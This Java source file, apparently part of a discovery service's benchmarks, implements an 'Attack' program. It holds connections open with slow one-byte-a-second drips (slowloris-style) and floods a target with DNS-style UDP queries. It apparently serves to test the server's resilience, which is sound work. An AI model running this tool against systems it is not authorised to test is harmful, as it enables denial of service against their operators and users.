package io.discovery.benchmarks;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.util.Random;
import java.util.concurrent.locks.LockSupport;

/**
 * Clients that mean harm, as a program. Arguments: {@code tcp}, an address, a port and a number of
 * connections, of which half say nothing and half a byte a second of a message without an end; or
 * {@code udp}, an address, a port and a number of questions a second, all from one socket.
 */
public final class Attack {
  private static final long SECOND = 1_000_000_000;
  private static final long SLICE = SECOND / 1000;

  private final InetSocketAddress target;
  private final int count;
  private volatile int open;
  private volatile int ended;

  private Attack(InetSocketAddress target, int count) {
    this.target = target;
    this.count = count;
  }

  /** Attacks until its input ends. */
  public static void main(String[] args) throws IOException {
    InetSocketAddress target = new InetSocketAddress(args[1], Integer.parseInt(args[2]));
    Attack attack = new Attack(target, Integer.parseInt(args[3]));
    if (args[0].equals("udp")) {
      attack.flood();
    } else {
      attack.hold();
    }
  }

  private String state() {
    return open + " open, " + ended + " ended by the server";
  }

  private void flood() throws IOException {
    DatagramChannel channel = DatagramChannel.open().connect(target);
    channel.configureBlocking(false);
    Random random = new Random(1);
    Stdin.ready(this::state);
    long next = System.nanoTime();
    while (true) {
      for (int i = 0; i < count / 1000; i++) {
        String name = "service-" + random.nextInt(20_000) + ".shop.svc.cluster.local";
        byte[] question = Caller.question(i, name);
        try {
          channel.write(ByteBuffer.wrap(question));
        } catch (IOException e) {
          ended++; // nobody listens: an answer by ICMP
        }
      }
      next += SLICE;
      LockSupport.parkNanos(next - System.nanoTime());
    }
  }

  private void hold() throws IOException {
    Selector selector = Selector.open();
    fill(selector);
    Stdin.ready(this::state);
    long next = System.nanoTime() + SECOND;
    while (true) {
      selector.select(this::look, Math.max(1, (next - System.nanoTime()) / 1_000_000));
      if (System.nanoTime() >= next) {
        next += SECOND;
        selector.keys().forEach(this::drip);
        selector.selectNow(this::look);
        fill(selector);
      }
    }
  }

  /** Opens again what the server has ended. */
  private void fill(Selector selector) throws IOException {
    for (int missing = count - open; missing > 0; missing--) {
      SocketChannel channel = SocketChannel.open();
      channel.configureBlocking(false);
      boolean slow = open % 2 == 0;
      channel.connect(target);
      channel.register(selector, SelectionKey.OP_CONNECT, slow);
      open++;
      if (open % 200 == 0) {
        selector.select(this::look, 10);
      }
    }
  }

  private void look(SelectionKey key) {
    SocketChannel channel = (SocketChannel) key.channel();
    try {
      if (key.isConnectable() && channel.finishConnect()) {
        key.interestOps(SelectionKey.OP_READ);
      } else if (channel.read(ByteBuffer.allocate(1024)) < 0) {
        end(key);
      }
    } catch (IOException e) {
      end(key);
    }
  }

  private void drip(SelectionKey key) {
    SocketChannel channel = (SocketChannel) key.channel();
    try {
      if (Boolean.TRUE.equals(key.attachment()) && channel.isConnected()) {
        channel.write(ByteBuffer.wrap(new byte[] {'Z'}));
      }
    } catch (IOException e) {
      end(key);
    }
  }

  private void end(SelectionKey key) {
    try {
      key.channel().close();
    } catch (IOException e) {
      key.cancel();
    }
    open--;
    ended++;
  }
}
